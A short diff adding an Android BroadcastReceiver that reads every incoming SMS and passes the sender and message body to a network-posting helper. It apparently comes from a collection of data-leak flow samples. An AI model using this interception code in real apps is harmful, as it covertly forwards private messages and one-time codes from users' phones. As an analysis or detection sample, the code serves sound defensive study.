@@ -1,0 +1,35 @@
+package com.example.flows.sms_receiver;
+
+import android.accounts.*;
+import android.app.*;
+import android.content.*;
+import android.content.pm.*;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.*;
+import android.net.wifi.*;
+import android.os.*;
+import android.provider.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import org.json.*;
+
+public class Incoming extends BroadcastReceiver {
+    @Override
+    public void onReceive(Context context, Intent intent) {
+        Object[] pdus = (Object[]) intent.getExtras().get("pdus");
+        for (Object pdu : pdus) {
+            SmsMessage message = SmsMessage.createFromPdu((byte[]) pdu);
+            Net.post(message.getOriginatingAddress() + ": " + message.getMessageBody());
+        }
+    }
+}
